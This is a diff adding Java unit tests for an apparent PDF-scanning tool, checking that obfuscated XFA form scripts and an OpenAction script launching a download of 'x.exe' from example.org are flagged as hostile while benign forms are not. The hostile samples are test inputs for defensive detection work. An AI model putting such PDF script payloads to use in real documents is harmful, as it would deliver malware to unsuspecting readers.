@@ -145,4 +145,30 @@ class PdfActionsTest {
     assertThat(judgement.rules()).isEqualTo("document-encrypted");
     assertThat(judgement.reasons()).contains("certificate");
   }
+
+  @Test
+  void aScriptOfAFormInXmlIsReadInOnePartAndInSeveral() throws Exception {
+    String calm = "<xdp><event><script contentType='x'>a.rawValue=1</script></event></xdp>";
+    String hostile = calm.replace("a.rawValue=1", "eval(unescape('%75'))");
+    byte[] one = Pdf.stream("/Filter/FlateDecode", Pdf.deflated(Bytes.latin1(calm)));
+    isOnlyTold(Documents.judge("a.pdf", pdf("/AcroForm<</XFA 3 0 R>>", one)), "pdf-xfa-script");
+    for (String form : new String[] {"3 0 R", "[(template)3 0 R(data)2 0 R]"}) {
+      byte[] part = Pdf.stream("", Bytes.latin1(hostile));
+      assertThat(Documents.judge("a.pdf", pdf("/AcroForm<</XFA " + form + ">>", part)).rules())
+          .isEqualTo("pdf-hostile-script");
+    }
+    byte[] plain = Pdf.stream("", Bytes.latin1("<xdp><field>description</field></xdp>"));
+    assertThat(Documents.judge("a.pdf", pdf("/AcroForm<</XFA 3 0 R>>", plain)).shadow()).isEmpty();
+  }
+
+  @Test
+  void aScriptThatFetchesAProgramIsHostile() {
+    String action = "<</S/JavaScript/JS(app.launchURL\\('http://example.org/x.exe', true\\))>>";
+    assertThat(Documents.judge("a.pdf", pdf("/OpenAction 3 0 R", action)).rules())
+        .isEqualTo("pdf-hostile-script");
+    assertThat(
+            Documents.judge("a.pdf", pdf("/OpenAction 3 0 R", action.replace("x.exe", "x.html")))
+                .rules())
+        .isEmpty();
+  }
 }
